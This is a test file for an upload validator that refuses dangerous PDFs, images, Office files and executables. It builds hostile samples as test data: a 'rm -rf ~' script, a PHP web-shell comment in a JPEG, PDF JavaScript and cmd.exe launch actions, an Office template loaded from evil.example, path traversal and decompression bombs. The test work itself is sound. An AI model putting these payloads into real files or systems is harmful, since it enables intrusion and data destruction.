import PDFDocument from 'pdfkit'
import { deflateSync } from 'node:zlib'
import { buffer } from 'node:stream/consumers'
import { describe, expect, test } from 'vitest'
import { largestUpload } from '../../../contract/limits.ts'
import { contentTypes, fileExtension } from '../../../contract/documents/uploads.ts'
import { smallPdf } from '../../database/demo-data/small-pdf.ts'
import type { Problem } from '../../platform/problem.ts'
import { makeWorkbook } from '../../testing/make-workbook.ts'
import {
  jpeg,
  linuxProgram,
  office,
  officeParts,
  oldOffice,
  packedObjects,
  pdf,
  png,
  pngChunk,
  windowsProgram,
  zip,
} from '../../testing/sample-files.ts'
import { checkContent } from './check-content.ts'
import { contentOf } from './content.ts'

const typeOf = (name: string) => contentTypes[fileExtension(name)]?.[0] ?? 'application/octet-stream'
const check = async (name: string, bytes: Buffer, declaredType = typeOf(name)) =>
  checkContent({ name, declaredType, content: contentOf(bytes) })
const refusal = async (name: string, bytes: Buffer, declaredType?: string) =>
  check(name, bytes, declaredType).then(
    (type) => `taken as ${type}`,
    ({ status, message, fields }: Problem) => {
      expect(fields).toEqual({ file: message })
      expect(status).toBe(message === 'File size is too large' ? 413 : 415)
      return message
    },
  )

const drawnPdf = async () => {
  const document = new PDFDocument()
  document.text('A certificate')
  document.end()
  return buffer(document)
}
const bomb = Buffer.alloc(30 * 1024 * 1024)

describe('accepted files:', () => {
  test.each([
    ['photo.jpg', jpeg(), 'image/jpeg'],
    ['PHOTO.JPEG', jpeg({ isProgressive: true }), 'image/jpeg'],
    ['plan.png', png(), 'image/png'],
    ['letter.docx', office('docx'), contentTypes['docx']?.[0]],
    ['sheet.xlsx', office('xlsx'), contentTypes['xlsx']?.[0]],
    ['slides.pptx', office('pptx'), contentTypes['pptx']?.[0]],
    ['letter.doc', oldOffice(['WordDocument', '1Table']), 'application/msword'],
    ['sheet.xls', oldOffice(['Workbook']), 'application/vnd.ms-excel'],
    ['old-sheet.xls', oldOffice(['Book']), 'application/vnd.ms-excel'],
    ['slides.ppt', oldOffice(['PowerPoint Document', 'Current User']), 'application/vnd.ms-powerpoint'],
    ['report.pdf', pdf(), 'application/pdf'],
    ['report.pdf', smallPdf(['Report']), 'application/pdf'],
    ['report.pdf', pdf([packedObjects('<< /Type /Page >>')]), 'application/pdf'],
    [
      'report.pdf',
      pdf([{ dictionary: '/Filter /FlateDecode', data: deflateSync('BT (text) Tj ET') }]),
      'application/pdf',
    ],
    ['report.pdf', Buffer.concat([pdf(), Buffer.from('\r\n\0\0')]), 'application/pdf'],
    ['notes.txt', Buffer.from('Schlüssel beim Nachbarn – klingeln 🔑\r\n'), 'text/plain'],
    ['notes.txt', Buffer.from('\ufeffKeys', 'utf16le'), 'text/plain'],
    ['notes.txt', Buffer.from('MZ is how this text begins'), 'text/plain'],
    ['notes.txt', Buffer.from('<html><script>alert(1)</script>'), 'text/plain'],
    ['list.csv', Buffer.from('Name;Stra\xdfe\r\n', 'latin1'), 'text/csv'],
    ['photo.jpg', Buffer.concat([jpeg(), Buffer.from('ftypmp42 a film of the moment')]), 'image/jpeg'],
  ])('%s', async (name, bytes, type) => {
    expect(await check(name, bytes)).toBe(type)
  })

  test('files written by current programs', async () => {
    expect(await check('certificate.pdf', await drawnPdf())).toBe('application/pdf')
    expect(await check('sheet.xlsx', makeWorkbook({ Properties: [['1 High Street', 42]] }))).toBe(
      contentTypes['xlsx']?.[0],
    )
  })

  test('a CSV with the content type that Windows sends', async () => {
    expect(await check('list.csv', Buffer.from('a,b\n'), 'application/vnd.ms-excel')).toBe('text/csv')
  })

  test('exactly 20 MB, and not one byte more', async () => {
    expect(await check('long.txt', Buffer.alloc(largestUpload, 'a'))).toBe('text/plain')
    expect(await refusal('long.txt', Buffer.alloc(largestUpload + 1, 'a'))).toBe('File size is too large')
  })

  test('a word across the boundary of two pieces is found', async () => {
    const filler = (size: number) => ({ dictionary: '', data: Buffer.alloc(size, 'x') })
    const script = pdf([filler(256 * 1024 - 150), '<< /S /JavaScript /JS (app.alert(1)) >>'])
    const at = script.indexOf('/JavaScript')
    for (const shift of [-4, 0, 4]) {
      const seam = 256 * 1024 + shift
      const moved = pdf([filler(256 * 1024 - 150 + seam - at - 5), '<< /S /JavaScript /JS (app.alert(1)) >>'])
      expect(await refusal('a.pdf', moved)).toContain('contains scripts')
    }
  })
})

describe('files refused by name and declared type:', () => {
  test.each([
    ['tool.exe', windowsProgram, 'application/octet-stream'],
    ['page.html', Buffer.from('<html>'), 'text/html'],
    ['picture.svg', Buffer.from('<svg/>'), 'image/svg+xml'],
    ['macro.docm', office('docx'), 'application/vnd.ms-word.document.macroEnabled.12'],
    ['report.pdf', pdf(), 'text/html'],
    ['report.pdf', pdf(), ''],
    ['photo.png', png(), 'image/jpeg'],
    ['report.pdf.exe', pdf(), 'application/pdf'],
    ['no-extension', pdf(), 'application/pdf'],
  ])('%s', async (name, bytes, declaredType) => {
    expect(await refusal(name, bytes, declaredType)).toBe('Invalid file type')
  })
})

const script = '/S /JavaScript /JS (app.alert(1))'
const vba = { name: 'word/vbaProject.bin', data: 'x' }
const rels = (type: string, mode: string) => ({
  name: 'word/_rels/settings.xml.rels',
  data: `<Relationships><Relationship Id="rId1" Type="http://x/relationships/${type}" Target="https://evil.example/a.dotm"${mode}/></Relationships>`,
})

describe('files refused by content:', () => {
  test.each<Case>([
    ['report.pdf', Buffer.alloc(0), 'The file is empty.'],
    ['report.pdf', windowsProgram, 'The file is a program for Windows.'],
    ['photo.jpg', windowsProgram, 'The file is a program for Windows.'],
    ['notes.txt', windowsProgram, 'The file is a program for Windows.'],
    ['letter.docx', linuxProgram, 'The file is a program for Linux.'],
    ['notes.txt', Buffer.from('cffaedfe0c000001000000000200', 'hex'), 'The file is a program for macOS.'],
    ['notes.txt', Buffer.from('#!/bin/sh\nrm -rf ~\n'), 'The file is a script.'],
    ['list.csv', office('xlsx'), 'The file is not plain text.'],
    ['notes.txt', Buffer.from('a\0b'), 'The file is not plain text.'],
    ['notes.txt', Buffer.from('a\x1b[31m'), 'The file is not plain text.'],
    ['notes.txt', Buffer.from([0x61, 0x81, 0x20]), 'The file is not plain text.'],
    ['notes.txt', Buffer.from('{\\rtf1\\ansi hello}'), 'The content is a .rtf file.'],
    ['notes.txt', pdf(), 'The content is a .pdf file.'],
    ['photo.png', jpeg(), 'The content is a .jpg file.'],
    ['photo.jpg', png(), 'The content is a .png file.'],
    ['photo.jpg', Buffer.from('hello'), 'The content is not a .jpg file.'],
    ['report.pdf', Buffer.from('hello'), 'The content is not a .pdf file.'],
    ['report.pdf', zip([{ name: 'a.txt', data: 'a' }]), 'The content is a .zip file.'],
  ])('%s: %#', async (name, bytes, reason) => {
    expect(await refusal(name, bytes)).toBe(`Invalid file type. ${reason}`)
  })

  type Case = [name: string, bytes: Buffer, reason: string]
  const damaged = 'The file is damaged or incomplete.'
  const picture = 'The picture contains other content.'
  test.each<Case>([
    ['a.png', png().subarray(0, -20), damaged],
    ['a.png', png().subarray(0, 20), damaged],
    ['a.png', Buffer.concat([png().subarray(0, 33), pngChunk('IEND', Buffer.alloc(0))]), damaged],
    ['a.png', png({ width: 20_001, height: 1 }), 'The picture is too large: 20001 × 1 pixels.'],
    ['a.png', png({ width: 10_000, height: 5001 }), 'The picture is too large: 10000 × 5001 pixels.'],
    ['a.png', png({ width: 0 }), damaged],
    ['a.png', png({ extra: pngChunk('tEXt', Buffer.from('Comment\0<script>alert(1)</script>')) }), picture],
    ['a.png', Buffer.concat([png(), zip([{ name: 'a', data: 'a' }])]), picture],
    ['a.jpg', jpeg().subarray(0, -2), damaged],
    ['a.jpg', jpeg().subarray(0, 12), damaged],
    ['a.jpg', jpeg({ width: 60_000, height: 60_000 }), 'The picture is too large: 60000 × 60000 pixels.'],
    ['a.jpg', jpeg({ comment: '<?php system($_GET[0]); ?>' }), picture],
    ['a.jpg', Buffer.concat([jpeg(), pdf()]), picture],
    ['a.jpg', zip([{ name: 'a', data: 'a' }], { before: jpeg() }), picture],
  ])('the picture %s: %#', async (name, bytes, reason) => {
    expect(await refusal(name, bytes)).toBe(`Invalid file type. ${reason}`)
  })

  const print = 'Print it to a new PDF and upload that.'
  const company = 'The PDF contains other content.'
  test.each<[Buffer, string]>([
    [pdf([`<< ${script} >>`]), `The PDF contains scripts. ${print}`],
    [pdf(['<< /S /J#61vaScript /JS (1) >>']), `The PDF contains scripts. ${print}`],
    [pdf(['<< /S/#4a#61#76#61#53cript/JS (1) >>']), `The PDF contains scripts. ${print}`],
    [pdf([packedObjects(`<< ${script} >>`)]), `The PDF contains scripts. ${print}`],
    [
      pdf([{ ...packedObjects(`<< ${script} >>`), dictionary: '/N 1 /First 4 /Filter /FlateDecode' }]),
      `The PDF contains scripts. ${print}`,
    ],
    ...[`/X (${'a'.repeat(5000)})`, '/X (obj)', '/X (\\) >> obj (<<))', '/X <6f626a>', '/X << /Y (endobj) >>'].map(
      (more): [Buffer, string] => [
        pdf([packedObjects(`<< ${script} >>`, `/Filter [/FlateDecode] ${more}`)]),
        `The PDF contains scripts. ${print}`,
      ],
    ),
    ...['stream\r', 'stream \n', '%endobj\nstream\n'].map((begin): [Buffer, string] => [
      Buffer.from(
        pdf([packedObjects(`<< ${script} >>`)])
          .toString('latin1')
          .replace('stream\n', begin),
        'latin1',
      ),
      `The PDF contains scripts. ${print}`,
    ]),
    ...[
      '/Filter /Fl',
      '/Filter 9 0 R',
      '/Filter /FlateDecode /DecodeParms 9 0 R',
      '/Filter /FlateDecode /Filter /Fl',
    ].map((filter): [Buffer, string] => [pdf([packedObjects('<< >>', filter)]), damaged]),
    ...[pdf(['<< /AcroForm << /XFA [(template) 9 0 R] >> >>']), pdf([packedObjects('<< /XFA 9 0 R >>')])].map(
      (bytes): [Buffer, string] => [bytes, `The PDF contains a form that can run scripts. ${print}`],
    ),
    [pdf(['<< /S /Launch /F (cmd.exe) >>']), `The PDF starts programs. ${print}`],
    [pdf(['<< /Names << /EmbeddedFiles 3 0 R >> >>']), `The PDF contains other files. ${print}`],
    [pdf([], { trailer: '/Encrypt 8 0 R' }), `The PDF is protected by a password. ${print}`],
    [
      pdf([{ dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', data: Buffer.from('no deflate') }]),
      damaged,
    ],
    [pdf([packedObjects('<< >>', '/Filter [/ASCIIHexDecode /FlateDecode]')]), damaged],
    [
      pdf([
        {
          dictionary: '/Type /ObjStm /First 4 /Filter /FlateDecode',
          data: deflateSync(Buffer.alloc(33 * 1024 * 1024)),
        },
      ]),
      'The PDF is too large to check once it is unpacked.',
    ],
    [
      pdf([{ dictionary: '', data: Buffer.alloc(5_100_000, 'obj%\n') }]),
      'The PDF is too large to check once it is unpacked.',
    ],
    [pdf([], { end: '' }), damaged],
    [pdf().subarray(0, 60), damaged],
    [Buffer.concat([pdf(), Buffer.from('<script>alert(1)</script>')]), company],
    [Buffer.concat([pdf(), zip([{ name: 'a', data: 'a' }])]), company],
    [Buffer.concat([pdf(), zip([{ name: 'a', data: 'a' }]), Buffer.from('startxref\n1\n%%EOF')]), company],
    [Buffer.from(pdf().toString('latin1').replace('%PDF-1.7\n', '%PDF-1.7\n%<html ><script >\n'), 'latin1'), company],
  ])('the PDF %#', async (bytes, reason) => {
    expect(await refusal('a.pdf', bytes)).toBe(`Invalid file type. ${reason}`)
  })

  const macros = 'The file contains macros. Save it without macros and upload that.'
  const explodes = 'The file is too large to check once it is unpacked.'
  const other = 'The content is a different kind of document.'
  const carries = 'The file contains other content.'
  const remote = 'The file loads content from another location.'
  const relationship = rels('attachedTemplate', ' TargetMode="External"').data
  test.each<Case>([
    ['a.docx', office('docx', [vba]), macros],
    [
      'a.docx',
      office(
        'docx',
        [],
        '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
      ),
      macros,
    ],
    ['a.xlsx', office('xlsx', [{ name: 'xl/macrosheets/sheet1.xml', data: '<a/>' }]), macros],
    ['a.xlsx', office('xlsx', [{ name: 'xl/activeX/activeX1.bin', data: 'x' }]), macros],
    ['a.docx', office('xlsx'), other],
    ['a.xlsx', zip([{ name: 'hello.txt', data: 'hello' }]), other],
    ['a.docx', office('docx', [{ name: 'word/media/a.exe', data: 'MZ' }]), carries],
    ['a.docx', office('docx', [{ name: 'word/media/a.bin', data: bomb }]), explodes],
    ['a.docx', office('docx', [{ name: 'a', data: 'a', says: { size: 500 * 1024 * 1024 } }]), explodes],
    ['a.docx', office('docx', [{ name: 'a', data: 'a', says: { packed: 4000 } }]), explodes],
    ['a.docx', office('docx', [{ name: 'a', data: 'aaaaaaaaaa', says: { size: 5 } }]), damaged],
    [
      'a.docx',
      office('docx', [{ name: 'a', data: 'a', says: { isEncrypted: true } }]),
      'The file is protected by a password.',
    ],
    ['a.docx', oldOffice(['EncryptedPackage', 'EncryptionInfo']), 'The file is protected by a password.'],
    ['a.docx', office('docx').subarray(0, -30), damaged],
    ['a.docx', office('docx').subarray(0, 100), damaged],
    ['a.docx', zip(officeParts('docx'), { after: Buffer.from('<script>') }), damaged],
    ['a.docx', Buffer.concat([office('docx'), office('docx')]), carries],
    ['a.docx', zip(officeParts('docx'), { before: office('docx') }), carries],
    ['a.docx', office('docx', [{ name: '../../evil.xml', data: 'a' }]), damaged],
    ['a.docx', office('docx', [{ name: 'word/a.xml', data: '<!DOCTYPE a [<!ENTITY b "c">]>' }]), carries],
    ['a.docx', office('docx', [{ name: 'word/_rels/settings.xml.rels', data: relationship }]), remote],
    ...[
      relationship.replaceAll('"', "'"),
      relationship.replace('attached', '&#97;ttached').replace('External', '&#x0045;xternal'),
      relationship.replace('a.dotm', 'a.dotm?>'),
      Buffer.from(`\ufeff${relationship}`, 'utf16le'),
    ].map((data): Case => ['a.docx', office('docx', [{ name: 'word/_rels/settings.xml.rels', data }]), remote]),
    ['a.docx', office('docx', [{ name: 'word/_rels/settings.xml.RELS', data: relationship }]), remote],
    ['a.docx', office('docx', [], "<Override PartName='/x' ContentType='application/vba&#80;roject'/>"), macros],
    [
      'a.docx',
      office('docx', [{ name: '[content_types].xml', data: '<Override ContentType="macroEnabled"/>' }]),
      macros,
    ],
    ['a.docx', office('docx', [{ name: 'word/a.xml', data: Buffer.from('\ufeff<!DOCTYPE a>', 'utf16le') }]), carries],
    ['a.doc', oldOffice(['WordDocument', 'Macros/', 'VBA/', 'dir']), macros],
    ['a.xls', oldOffice(['Workbook', '_VBA_PROJECT_CUR/']), macros],
    ['a.doc', oldOffice(['Workbook']), other],
    ['a.doc', oldOffice(['WordDocument', '\u0001Ole10Native']), carries],
    ['a.ppt', oldOffice(['PowerPoint Document', 'EncryptedSummary']), 'The file is protected by a password.'],
    [
      'a.ppt',
      oldOffice(['PowerPoint Document'], Buffer.from('0f00ff0314000000020000040c0000000500000001000000', 'hex')),
      macros,
    ],
    ['a.doc', oldOffice(['WordDocument']).subarray(0, 600), damaged],
    ['a.doc', Buffer.from('{\\rtf1 hello}'), 'The content is a .rtf file.'],
  ])('the document %s: %#', async (name, bytes, reason) => {
    expect(await refusal(name, bytes)).toBe(`Invalid file type. ${reason}`)
  })

  test('a hyperlink does not count as loaded content', async () => {
    expect(await check('a.docx', office('docx', [rels('hyperlink', ' TargetMode="External"')]))).toBe(
      contentTypes['docx']?.[0],
    )
  })

  test('a directory with a cycle', async () => {
    const circle = oldOffice(['WordDocument'])
    circle.writeUInt32LE(1, 512 + 4)
    expect(await refusal('a.doc', circle)).toBe(`Invalid file type. ${damaged}`)
  })
})

test.each<[string, string, Buffer]>([
  ['fill bytes', 'a.jpg', Buffer.from(`ffd8ff${'ff'.repeat(50_000)}`, 'hex')],
  ['scans', 'a.jpg', Buffer.from(`ffd8${'ffda0002'.repeat(15_000)}`, 'hex')],
  ['chunks', 'a.png', png({ extra: Buffer.alloc(600_000, pngChunk('tEXt', Buffer.alloc(0))) })],
])('a picture with countless %s is read up to a limit', async (_, name, bytes) => {
  let parts = 0
  const { size, read } = contentOf(bytes)
  const content = {
    size,
    read: async (position: number, length: number) => {
      parts += 1
      return read(position, length)
    },
  }
  const checked = checkContent({ name, declaredType: typeOf(name), content })
  await expect(checked).rejects.toThrow('The file is damaged or incomplete.')
  expect(parts).toBeLessThan(20_100)
})

test('random bytes are either accepted or refused with a message', async () => {
  let seed = 7
  const random = () => (seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648) / 2_147_483_648
  const samples: [string, Buffer][] = [
    ['a.jpg', jpeg()],
    ['a.png', png()],
    ['a.pdf', pdf([packedObjects('<< >>')])],
    ['a.docx', office('docx')],
    ['a.doc', oldOffice(['WordDocument'])],
    ['a.txt', Buffer.from('some text, some more')],
  ]
  for (const [name, sample] of samples) {
    for (let round = 0; round < 60; round += 1) {
      const bytes = Buffer.from(sample)
      for (let change = 0; change < 6; change += 1)
        bytes[Math.floor(random() * bytes.length)] = Math.floor(random() * 256)
      const cut = random() < 0.3 ? bytes.subarray(0, Math.floor(random() * bytes.length)) : bytes
      expect(await refusal(name, cut)).toMatch(/^(taken as|Invalid file type\. )/)
    }
  }
}, 60_000)
